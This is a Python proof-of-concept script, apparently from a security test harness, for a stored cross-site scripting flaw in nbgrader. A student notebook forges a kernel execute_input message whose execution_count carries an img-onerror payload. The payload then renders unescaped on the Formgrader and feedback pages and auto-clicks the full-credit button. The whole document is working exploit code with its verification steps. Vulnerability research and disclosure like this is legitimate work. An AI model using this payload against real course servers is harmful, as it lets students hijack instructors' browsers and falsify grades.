"""a01: a kernel message's `execution_count` (content of any iopub message for the cell) becomes the cell's
execution_count (nbclient process_message), unchecked; nbconvert's classic template prints it unescaped in the
`In [..]:` prompt, which Formgrader's page (template formgrade) and the feedback page show.
Hostile: mallory sends an execute_input message whose execution_count is HTML. Controls aaron, zoe."""
import re
from harness import *

PAYLOAD = ('<img src=x onerror="window.PWNED=1;setTimeout(function(){$(\'.full-credit\').click()},1500)">'
           '<b id=pwned-marker>X</b>')
CODE = f'''
### BEGIN SOLUTION
q1 = "b"
### END SOLUTION
_k = get_ipython().kernel
_p = _k.get_parent("shell") if hasattr(_k, "get_parent") else _k._parent_header
_ = _k.session.send(_k.iopub_socket, "execute_input", {{"code": "", "execution_count": {PAYLOAD!r}}}, parent=_p,
                ident=_k._topic("execute_input"))
'''
d = course("a01")
handin(d, "aaron", honest())
handin(d, "mallory", fill(release(), nbformat.read(f"{CLONE}/source/{A}/{A}.ipynb", 4), {"quiz_q1": CODE}))
handin(d, "zoe", honest())
grade(d); scores(d); report(d)
import nbformat as nbf
nb = json.load(open(f"{d}/autograded/mallory/{A}/{A}.ipynb"))
for c in nb["cells"]:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q1":
        print("autograded quiz_q1 execution_count:", repr(c.get("execution_count")))
fb = f"{d}/feedback/mallory/{A}/{A}.html"
if os.path.exists(fb):
    html = open(fb).read()
    print("feedback page holds raw payload:", "<img src=x onerror=" in html)
    i = html.find("<img src=x onerror="); print(html[max(0, i - 120): i + 200])

# Formgrader's page: render the autograded notebook exactly as Formgrader's SubmissionHandler does
# (HTMLExporter with nbgrader's config plus template 'formgrade').
import subprocess
r = subprocess.run([PY, "-c", f'''
import os, sys
os.chdir({d!r})
from traitlets.config import Config
from nbconvert.exporters import HTMLExporter
from nbgrader.apps import NbGrader
from nbgrader.server_extensions.formgrader import handlers
app = NbGrader(); app.load_cwd_config = True; app.config_dir = "/nonexistent"; app.load_config_file()
cfg = app.config
cfg.HTMLExporter.template_name = "formgrade"
cfg.HTMLExporter.extra_template_basedirs = [handlers.template_path]
ex = HTMLExporter(config=cfg)
res = dict(assignment_id="ps1_memory", notebook_id="ps1_memory", submission_id="s", index=0, total=3,
           base_url="", student="mallory", last_name=None, first_name=None, notebook_path="x")
html, _ = ex.from_filename("autograded/mallory/ps1_memory/ps1_memory.ipynb", resources=res)
open("/tmp/attack35-user-a01-formgrade.html", "w").write(html)
i = html.find("<img src=x onerror=")
print("formgrade page holds raw payload:", i >= 0, "sanitize_html:", cfg.HTMLExporter.sanitize_html)
print(html[max(0, i - 200): i + 200])
'''], capture_output=True, text=True, cwd=CLONE)
print(r.stdout[-3000:], r.stderr[-3000:])
